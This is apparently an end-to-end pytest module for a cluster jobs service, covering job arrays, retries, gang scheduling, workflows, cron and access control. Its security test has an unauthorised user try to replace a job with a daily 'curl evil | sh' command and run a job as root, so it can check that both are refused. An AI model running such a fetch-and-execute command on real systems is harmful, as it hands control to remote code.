"""The jobs service end to end: a real master, two agents and `aiomesos jobs serve` (secure, as users run it),
driven through the Jobs API and the `aiomesos job` CLI. One cluster for the module: each test uses its own job
names and waits for its runs to end, so the next finds the cluster idle."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from pathlib import Path

import grpc
import pytest
import pytest_asyncio

from aiomesos.v1 import jobs_pb2 as jpb
from scheduler_sdk.frameworks.jobs.client import JobsClient, JobsError
from scheduler_sdk.local_cluster import LocalCluster
from scheduler_sdk.security.config import ClientConfig
from scheduler_sdk.security.local import LocalCertificates
from tests.e2e.conftest import FAST_AGENT, FAST_MASTER

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="module")]
AIOMESOS = [sys.executable, "-m", "scheduler_sdk"]
ENDED = ("succeeded", "failed", "stopped")
T0 = 1893456030.0  # 2030-01-01 00:00:30 UTC: the cron clock's start


@contextlib.asynccontextmanager
async def jobs_cluster(work: Path, *jobs_flags: str) -> AsyncIterator[LocalCluster]:
    """A master, two agents and the jobs service (its cron clock: WORK/cron-clock), checked for leaks at the end."""
    c = LocalCluster(
        work,
        agents=2,
        master_flags=list(FAST_MASTER),
        agent_flags=list(FAST_AGENT),
        jobs=True,
        jobs_flags=["--cron-clock-file", str(work / "cron-clock"), *jobs_flags],
    )
    try:
        await c.start()
        yield c
    finally:
        leftovers = await c.stop()
    assert leftovers == [], f"left behind: {leftovers}"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def cluster(
    tmp_path_factory: pytest.TempPathFactory, cluster_ca: LocalCertificates
) -> AsyncIterator[LocalCluster]:
    async with jobs_cluster(tmp_path_factory.mktemp("jobs"), "--gang-hold", "3s") as c:
        yield c


@pytest_asyncio.fixture(loop_scope="module")
async def jobs(cluster: LocalCluster) -> AsyncIterator[JobsClient]:
    async with JobsClient(cluster.jobs_address, config=cluster.client_config) as client:
        yield client


async def cli(cluster: LocalCluster, *args: str, timeout: float = 60) -> tuple[int, str, str]:
    env = {**os.environ, "COLUMNS": "200", "AIOMESOS_CONFIG": str(cluster.client_config_path)}
    proc = await asyncio.create_subprocess_exec(
        *AIOMESOS, *args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
    )
    out, err = await asyncio.wait_for(proc.communicate(), timeout)
    assert proc.returncode is not None
    return proc.returncode, out.decode(), err.decode()


def spec_file(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / f"{name}.yaml"
    path.write_text(text)
    return path


async def ended(jobs: JobsClient, job_id: str, run_id: str = "", timeout: float = 45) -> jpb.RunStatus:
    """The run once it has ended (polled; fails with the run's last state after `timeout`)."""
    deadline = time.monotonic() + timeout
    while True:
        status = await jobs.get_job(job_id, run_id)
        if status.run.state in ENDED:
            return status.run
        if time.monotonic() > deadline:
            raise AssertionError(f"run of {job_id} not ended in {timeout} s: {status.run}")
        await asyncio.sleep(0.1)


def tasks_of(run: jpb.RunStatus, step: str = "") -> list[jpb.TaskSlot]:
    return [t for t in run.tasks if not step or t.step == step]


# ------------------------------------------------------------------------------------------ batch
async def test_an_array_runs_every_index_and_job_logs_reads_each(
    cluster: LocalCluster, jobs: JobsClient, tmp_path: Path
) -> None:
    path = spec_file(
        tmp_path,
        "array",
        "name: array\ncount: 3\ncommand: echo index=$AIOMESOS_TASK_INDEX job=$AIOMESOS_JOB\n"
        "resources: {cpus: 0.1, mem: 32}\n",
    )
    code, out, err = await cli(cluster, "job", "run", str(path))
    assert code == 0, (out, err)
    run = await ended(jobs, "array")
    assert run.state == "succeeded"
    assert sorted(t.index for t in run.tasks) == [0, 1, 2]
    assert all(t.state == "succeeded" and t.HasField("exit_code") and t.exit_code == 0 for t in run.tasks)
    assert all(t.hostname.startswith("agent") and t.started_at <= t.ended_at for t in run.tasks)
    code, out, err = await cli(cluster, "job", "logs", "array", "--task", "2")
    assert (code, out.strip()) == (0, "index=2 job=array"), (out, err)
    code, out, err = await cli(cluster, "job", "status", "array", "--json")
    assert code == 0, err
    status = json.loads(out)
    assert [t["index"] for t in status["run"]["tasks"]] == [0, 1, 2]


async def test_retries_then_success_and_retries_exhausted_with_the_exit_code(
    cluster: LocalCluster, jobs: JobsClient, tmp_path: Path
) -> None:
    flaky = "name: flaky\ncommand: test $AIOMESOS_ATTEMPT -ge 2 || exit 7\nretries: {attempts: 3, backoff: 100ms}\n"
    broken = "name: broken\ncommand: exit 5\nretries: {attempts: 1, backoff: 100ms}\n"
    (flaky_run, broken_run) = await asyncio.gather(
        cli(cluster, "job", "run", str(spec_file(tmp_path, "flaky", flaky))),
        cli(cluster, "job", "run", str(spec_file(tmp_path, "broken", broken))),
    )
    assert flaky_run[0] == 0, flaky_run
    assert broken_run[0] == 1, broken_run  # the run failed: exit code 1, and it says which task and why
    assert "exit" in broken_run[1] + broken_run[2]
    run = await ended(jobs, "flaky")
    (slot,) = run.tasks
    assert (run.state, slot.state, slot.attempt) == ("succeeded", "succeeded", 2)
    assert [(a.state, a.exit_code) for a in slot.attempts] == [("failed", 7), ("failed", 7)]
    run = await ended(jobs, "broken")
    (slot,) = run.tasks
    assert (run.state, slot.state, slot.attempt, slot.exit_code) == ("failed", "failed", 1, 5)
    assert len(slot.attempts) == 1


async def test_a_task_past_its_timeout_is_killed_and_the_reason_says_so(jobs: JobsClient) -> None:
    await jobs.submit("name: slowpoke\ncommand: sleep 60\ntimeout: 1s\n", "slowpoke.yaml")
    run = await ended(jobs, "slowpoke", timeout=30)
    (slot,) = run.tasks
    assert (run.state, slot.state) == ("failed", "failed")
    assert "timed out after 1s" in slot.message, slot


async def test_a_waiting_task_says_why_and_stop_ends_the_run(cluster: LocalCluster, jobs: JobsClient) -> None:
    await jobs.submit("name: pinned\ncommand: sleep 60\nconstraints: [{hostname: nowhere.local}]\n", "p.yaml")
    deadline = time.monotonic() + 20
    while True:
        (slot,) = (await jobs.get_job("pinned")).run.tasks
        if "nowhere.local" in slot.why_waiting:  # "no offers yet" comes first
            break
        assert time.monotonic() < deadline, f"no reason given for a task that cannot be placed: {slot}"
        await asyncio.sleep(0.1)
    assert slot.state == "queued", slot
    code, _, err = await cli(cluster, "job", "stop", "pinned")
    assert code == 0, err
    run = await ended(jobs, "pinned")
    assert run.state == "stopped"


# ------------------------------------------------------------------------------------------ gang
async def test_two_gangs_of_70_percent_each_run_one_after_the_other_never_in_part(jobs: JobsClient) -> None:
    # Two agents of 2 cpus: each gang takes 1.4 cpus on both (70 %), so the two can never run together.
    gang = "command: sleep 1.5\ncount: 2\ngang: true\nresources: {cpus: 1.4, mem: 64}\n"
    await asyncio.gather(jobs.submit(f"name: gang-a\n{gang}", "a.yaml"), jobs.submit(f"name: gang-b\n{gang}", "b.yaml"))
    a, b = await asyncio.gather(ended(jobs, "gang-a", timeout=60), ended(jobs, "gang-b", timeout=60))
    assert a.state == b.state == "succeeded", (a, b)
    for run in (a, b):
        hosts = {t.hostname for t in run.tasks}
        assert len(hosts) == 2, run  # one member on each agent
        starts, ends = [t.started_at for t in run.tasks], [t.ended_at for t in run.tasks]
        assert max(starts) < min(ends), f"a member ended before another started: {run}"
    first, second = sorted((a, b), key=lambda r: min(t.started_at for t in r.tasks))
    assert min(t.started_at for t in second.tasks) >= max(t.ended_at for t in first.tasks) - 0.5


# ------------------------------------------------------------------------------------------ workflows
async def test_a_workflow_runs_in_dependency_order_and_retries_a_step(jobs: JobsClient) -> None:
    spec = """
name: pipeline
type: workflow
steps:
  - {name: a, command: "sleep 0.3"}
  - name: b
    command: "test $AIOMESOS_ATTEMPT -ge 1 || exit 3"
    depends_on: [a]
    retries: {attempts: 2, backoff: 100ms}
  - {name: c, command: "sleep 0.2", count: 2}
  - {name: d, command: "true", depends_on: [c]}
"""
    await jobs.submit(spec, "pipeline.yaml")
    run = await ended(jobs, "pipeline")
    assert run.state == "succeeded", run
    by_step = {s.name: s for s in run.steps}
    assert {n: s.state for n, s in by_step.items()} == dict.fromkeys("abcd", "succeeded")
    assert list(by_step["d"].depends_on) == ["c"]
    (a,), (b,), c, (d,) = (tasks_of(run, s) for s in "abcd")
    assert len(c) == 2
    assert b.started_at >= a.ended_at and b.attempts and b.attempt == 1
    assert b.attempts[0].started_at >= a.ended_at
    assert d.started_at >= max(t.ended_at for t in c)


async def test_a_failed_step_cancels_its_dependents_and_continue_runs_the_others(jobs: JobsClient) -> None:
    steps = """steps:
  - {name: x, command: "exit 4"}
  - {name: y, command: "true", depends_on: [x]}
  - {name: z, command: "sleep 0.5"}
  - {name: w, command: "true", depends_on: [z]}
"""
    await jobs.submit(f"name: failfast\ntype: workflow\n{steps}", "f.yaml")
    await jobs.submit(f"name: carryon\ntype: workflow\non_failure: continue\n{steps}", "c.yaml")
    failfast, carryon = await ended(jobs, "failfast"), await ended(jobs, "carryon")
    assert failfast.state == carryon.state == "failed"
    states = {s.name: s.state for s in carryon.steps}
    assert states == {"x": "failed", "y": "cancelled", "z": "succeeded", "w": "succeeded"}, states
    states = {s.name: s.state for s in failfast.steps}
    assert states["x"] == "failed" and states["y"] == "cancelled" and states["w"] in ("cancelled", "succeeded")
    assert tasks_of(failfast, "y")[0].state == "cancelled" and not tasks_of(failfast, "y")[0].started_at


# ------------------------------------------------------------------------------------------ cron
async def test_cron_fires_once_per_time_on_the_services_clock(cluster: LocalCluster, jobs: JobsClient) -> None:
    clock = cluster.work_dir / "cron-clock"
    clock.write_text(str(T0))
    response = await jobs.submit("name: ticker\nschedule: '*/5 * * * *'\ncommand: 'true'\n", "t.yaml")
    assert response.run_id == "" and response.next_run_at == T0 - 30 + 300  # 00:05:00
    clock.write_text(str(T0 + 300))  # 00:05:30: one time due
    await _runs(jobs, "ticker", 1)
    first = await ended(jobs, "ticker")
    assert first.trigger == "cron" and first.scheduled_for == T0 - 30 + 300
    clock.write_text(str(T0 + 300 + 0.5))  # still 00:05: nothing more
    clock.write_text(str(T0 + 1200))  # 00:20:30: three times due at once -> one run, for the latest
    await _runs(jobs, "ticker", 2)
    history = await jobs.history("ticker")
    assert [r.scheduled_for for r in history] == [T0 - 30 + 300, T0 - 30 + 1200]
    await jobs.stop_job("ticker")
    code, out, err = await cli(cluster, "job", "history", "ticker", "--json")
    assert code == 0 and len(json.loads(out)) == 2, (out, err)


async def _runs(jobs: JobsClient, job_id: str, count: int, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while len(await jobs.history(job_id)) < count:
        assert time.monotonic() < deadline, f"{job_id}: fewer than {count} runs"
        await asyncio.sleep(0.1)
    assert len(await jobs.history(job_id)) == count


# ------------------------------------------------------------------------------------------ bad input
BAD_SPECS = {
    "unknown-field": ("name: u\ncomand: true\n", "unknown field 'comand'"),
    "cycle": (
        "name: cyc\ntype: workflow\nsteps:\n  - {name: a, command: 'true', depends_on: [b]}\n"
        "  - {name: b, command: 'true', depends_on: [a]}\n",
        "cycle",
    ),
    "unknown-dependency": (
        "name: dep\ntype: workflow\nsteps:\n  - {name: a, command: 'true', depends_on: [nope]}\n",
        "unknown step 'nope'",
    ),
    "bad-cron": ("name: cr\nschedule: '61 * * * *'\ncommand: 'true'\n", "schedule"),
    "wrong-type": ("name: wt\ncommand: 'true'\ncount: many\n", "count"),
}


async def test_bad_specs_are_one_line_exit_2_and_nothing_is_submitted(
    cluster: LocalCluster, jobs: JobsClient, tmp_path: Path
) -> None:
    results = await asyncio.gather(
        *(cli(cluster, "job", "run", str(spec_file(tmp_path, k, text))) for k, (text, _) in BAD_SPECS.items()),
        cli(cluster, "job", "validate", str(spec_file(tmp_path, "bad-validate", BAD_SPECS["cycle"][0]))),
        cli(cluster, "job", "status", "no-such-job"),
    )
    expected = [want for _, want in BAD_SPECS.values()] + ["cycle", "no job 'no-such-job'"]
    for (code, out, err), want in zip(results, expected, strict=True):
        lines = err.strip().splitlines()
        assert code == 2 and len(lines) == 1 and want in lines[0] and "Traceback" not in err, (code, out, err)
    # Too big for any agent: refused at submit time by the service itself, naming the field.
    with pytest.raises(JobsError) as refused:
        await jobs.submit("name: huge\ncommand: 'true'\nresources: {cpus: 64, mem: 64}\n", "huge.yaml")
    assert refused.value.refused and "cpus" in str(refused.value) and "huge.yaml:3" in str(refused.value)
    listed = {j.job_id for j in await jobs.list_jobs()}
    assert listed.isdisjoint({"u", "cyc", "dep", "cr", "wt", "huge"}), listed


# ------------------------------------------------------------------------------------------ security
async def test_the_jobs_api_is_secure_and_only_the_owner_or_an_operator_stops_a_job(
    cluster: LocalCluster, jobs: JobsClient, cluster_ca: LocalCertificates
) -> None:
    # No certificate at all: the TLS port does not talk plaintext.
    async with JobsClient(cluster.jobs_address, config=ClientConfig(), timeout=3) as plain:
        with pytest.raises(JobsError) as refused:
            await plain.list_jobs()
    assert not refused.value.refused, refused.value
    # An agent's certificate is from the cluster CA but an agent has no business here.
    agent = cluster_ca.client_config(name="intruder.local", role="agent")
    async with JobsClient(cluster.jobs_address, config=agent, timeout=3) as intruder:
        with pytest.raises(JobsError) as denied:
            await intruder.list_jobs()
    assert denied.value.code == grpc.StatusCode.PERMISSION_DENIED, denied.value
    # A job submitted by framework/alice: bob (another framework) may read it but not stop it; an operator may.
    alice = cluster_ca.client_config(name="alice", role="framework")
    bob = cluster_ca.client_config(name="bob", role="framework")
    async with JobsClient(cluster.jobs_address, config=alice) as as_alice:
        await as_alice.submit("name: alices\ncommand: sleep 60\n", "alices.yaml")
    async with JobsClient(cluster.jobs_address, config=bob) as as_bob:
        status = await as_bob.get_job("alices")
        assert status.job.owner == "framework/alice" and status.spec_yaml == ""  # her commands are hers
        with pytest.raises(JobsError) as not_bobs:
            await as_bob.stop_job("alices")
        with pytest.raises(JobsError) as not_bobs_to_replace:
            await as_bob.submit("name: alices\nschedule: '@daily'\ncommand: 'curl evil | sh'\n", "mine.yaml")
        # The service runs every job as one framework: it checks the caller's ACLs itself (no root by default).
        with pytest.raises(JobsError) as no_root:
            await as_bob.submit("name: rooted\ncommand: id\nuser: root\n", "rooted.yaml")
    for refusal in (not_bobs, not_bobs_to_replace):
        assert refusal.value.code == grpc.StatusCode.PERMISSION_DENIED
        assert "framework/bob" in str(refusal.value) and "framework/alice" in str(refusal.value), refusal.value
    assert no_root.value.code == grpc.StatusCode.PERMISSION_DENIED and "root" in str(no_root.value)
    assert (await jobs.get_job("alices")).spec_yaml.endswith("command: sleep 60\n")  # the operator reads it
    assert (await jobs.get_job("alices")).run.state in ("pending", "running")  # untouched
    await jobs.stop_job("alices")  # the module's client is operator/admin
    assert (await ended(jobs, "alices")).state == "stopped"
